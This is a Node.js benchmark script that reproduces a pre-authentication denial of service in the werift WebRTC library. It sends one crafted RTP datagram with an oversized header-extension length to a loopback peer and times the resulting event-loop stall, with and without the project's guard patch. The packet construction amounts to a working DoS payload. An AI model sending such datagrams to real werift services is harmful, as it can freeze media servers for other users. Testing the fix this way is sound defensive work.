#!/usr/bin/env node
/**
 * werift's pre-authentication RTP header-parse stall, end to end (see guardWeriftRtpHeaderParse in
 * packages/sfu/src/werift/patches/srtp.ts): two werift peer connections connect over loopback,
 * then a fresh UDP socket that is not the ICE peer sends ONE datagram to the receiver's host
 * candidate: RTP version 2 with the X bit, one-byte extension profile 0xBEDE and an extension
 * length of WORDS 32-bit words in a 200-byte packet. werift's ICE hands it to DTLS/SRTP, whose
 * unprotect parses the header before authenticating it. Prints the worst event-loop stall seen.
 *
 *   WORDS=8000 node bench/werift-srtp/header-dos.mjs            # werift as shipped: ~0.7 s stall
 *   GUARD=1 WORDS=65535 node bench/werift-srtp/header-dos.mjs   # guarded: no stall
 *
 * Unguarded cost grows with WORDS squared (16,000 words: ~8.5 s; 65,535: minutes), so keep WORDS
 * small without GUARD. Needs `npx tsc -b packages/sfu` first.
 */
import dgram from 'node:dgram';
import { RTCPeerConnection, RTCRtpCodecParameters, MediaStreamTrack } from 'werift';
import { guardWeriftRtpHeaderParse } from '../../packages/sfu/dist/src/werift/patches/index.js';
if (process.env.GUARD) guardWeriftRtpHeaderParse();
const cfg = () => ({ iceServers: [], iceAdditionalHostAddresses: ['127.0.0.1'], codecs: { video: [new RTCRtpCodecParameters({ mimeType: 'video/VP8', clockRate: 90000 })], audio: [] } });
const a = new RTCPeerConnection(cfg()), b = new RTCPeerConnection(cfg());
a.addTransceiver(new MediaStreamTrack({ kind: 'video' }), { direction: 'sendonly' });
a.onIceCandidate.subscribe((c) => c && b.addIceCandidate(c));
b.onIceCandidate.subscribe((c) => c && a.addIceCandidate(c));
await a.setLocalDescription(await a.createOffer());
await b.setRemoteDescription(a.localDescription);
await b.setLocalDescription(await b.createAnswer());
await a.setRemoteDescription(b.localDescription);
await new Promise((r) => { const t = setInterval(() => { if (b.connectionState === 'connected') { clearInterval(t); r(); } }, 20); });
await new Promise((r) => setTimeout(r, 300));
const ports = [...b.localDescription.sdp.matchAll(/a=candidate:\S+ 1 udp \d+ 127\.0\.0\.1 (\d+) typ host/g)].map((m) => Number(m[1]));
const p = Buffer.alloc(200); p[0] = 0x90; p[1] = 0x60; p.writeUInt16BE(0xbede, 12); p.writeUInt16BE(Number(process.env.WORDS ?? 8000), 14);
const s = dgram.createSocket('udp4');
let worst = 0, last = performance.now();
const tick = setInterval(() => { const now = performance.now(); worst = Math.max(worst, now - last); last = now; }, 10);
for (const port of ports) s.send(p, port, '127.0.0.1'); // a stranger's socket: not the ICE peer
await new Promise((r) => setTimeout(r, 3000));
clearInterval(tick);
console.log(`guard=${!!process.env.GUARD} words=${process.env.WORDS ?? 8000} datagrams=${ports.length} worst event-loop stall ${worst.toFixed(0)} ms`);
s.close(); await a.close(); await b.close(); process.exit(0);
